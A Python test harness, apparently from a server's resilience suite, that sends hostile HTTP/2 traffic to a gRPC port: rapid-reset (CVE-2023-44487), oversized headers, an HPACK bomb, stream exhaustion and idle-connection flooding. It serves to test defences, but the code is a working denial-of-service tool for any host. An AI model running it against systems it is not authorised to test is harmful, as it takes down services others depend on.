#!/usr/bin/env python3
"""h2_attack.py MODE HOST PORT SECONDS [RATE]: a misbehaving HTTP/2 client for the
trust suite, speaking raw HTTP/2 (the `h2` package) to wt-server's gRPC port.

  rapid-reset   opens a stream and resets it at once, as fast as the socket
                takes it (CVE-2023-44487)
  big-headers   requests whose header block is far above the server's
                metadata limit, sent in CONTINUATION frames
  hpack-bomb    requests whose few KiB of HPACK expand to megabytes of
                headers through the dynamic table (CVE-2023-33953's kind)
  many-streams  opens streams and never finishes them, far past the
                server's concurrent-stream limit
  many-conns    opens 1000 TCP connections that never send a byte and
                holds them; reports how many the server closed

RATE caps the streams opened per second (0 or absent: as fast as the socket
takes them). Reconnects whenever the server closes the connection (which is what it
should do). Prints one line: the mode, connections, streams and frames
sent, and how many times the server closed the connection.
"""
import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

PATH = "/wt.v1.WeightTransfer/GetServerInfo"


def request_headers(authority, extra=()):
    return [(":method", "POST"), (":scheme", "http"), (":path", PATH),
            (":authority", authority), ("content-type", "application/grpc"),
            ("te", "trailers")] + list(extra)


def connect(host, port):
    s = socket.create_connection((host, port), timeout=5)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    cfg = h2.config.H2Configuration(client_side=True, header_encoding="utf-8",
                                    validate_outbound_headers=False,
                                    validate_inbound_headers=False)
    c = h2.connection.H2Connection(config=cfg)
    c.max_outbound_frame_size = 16384
    c.initiate_connection()
    s.sendall(c.data_to_send())
    s.setblocking(False)
    return s, c


def drain(s, c):
    """Reads what the server sent; False when it closed the connection."""
    try:
        while True:
            data = s.recv(65536)
            if not data:
                return False
            try:
                c.receive_data(data)
            except h2.exceptions.ProtocolError:
                return False
    except (BlockingIOError, InterruptedError):
        return True
    except OSError:
        return False


def main():
    mode, host, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    rate = float(sys.argv[5]) if len(sys.argv) > 5 else 0.0
    t0 = time.monotonic()
    authority = "%s:%d" % (host, port)
    end = time.monotonic() + seconds
    conns = streams = closed = 0
    big = [("x-pad-%d" % i, "v" * 1000) for i in range(1000)]  # ~1 MiB
    bomb = [("x-bomb", "b" * 4000)] * 4000  # ~16 MB once expanded
    if mode == "many-conns":
        socks = []
        for _ in range(1000):
            try:
                socks.append(socket.create_connection((host, port), timeout=2))
            except OSError:
                break
        opened = len(socks)
        time.sleep(max(0.0, end - time.monotonic()))
        gone = 0
        for k in socks:
            k.setblocking(False)
            try:
                gone += k.recv(1) == b""
            except BlockingIOError:
                pass
            except OSError:
                gone += 1
            k.close()
        print("%s: %d connections opened, %d closed by the server" %
              (mode, opened, gone))
        return
    while time.monotonic() < end:
        try:
            s, c = connect(host, port)
        except OSError:
            time.sleep(0.05)
            continue
        conns += 1
        alive = True
        while alive and time.monotonic() < end:
            try:
                sid = c.get_next_available_stream_id()
                if mode == "rapid-reset":
                    for _ in range(100):
                        sid = c.get_next_available_stream_id()
                        c.send_headers(sid, request_headers(authority))
                        c.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                        streams += 1
                elif mode == "big-headers":
                    c.send_headers(sid, request_headers(authority, big))
                    streams += 1
                elif mode == "hpack-bomb":
                    c.send_headers(sid, request_headers(authority, bomb))
                    streams += 1
                elif mode == "many-streams":
                    for _ in range(100):
                        sid = c.get_next_available_stream_id()
                        c.send_headers(sid, request_headers(authority))
                        streams += 1
                else:
                    sys.exit("unknown mode " + mode)
                data = c.data_to_send()
                s.setblocking(True)
                s.settimeout(2)
                s.sendall(data)
                s.setblocking(False)
            except (OSError, h2.exceptions.ProtocolError,
                    h2.exceptions.TooManyStreamsError):
                alive = False
            if alive:
                alive = drain(s, c)
            if not alive:
                closed += 1
            if mode == "many-streams" and alive:
                time.sleep(0.01)
            if rate > 0:
                ahead = streams / rate - (time.monotonic() - t0)
                if ahead > 0:
                    time.sleep(ahead)
        s.close()
    print("%s: %d connections, %d streams, server closed %d" %
          (mode, conns, streams, closed))


if __name__ == "__main__":
    main()
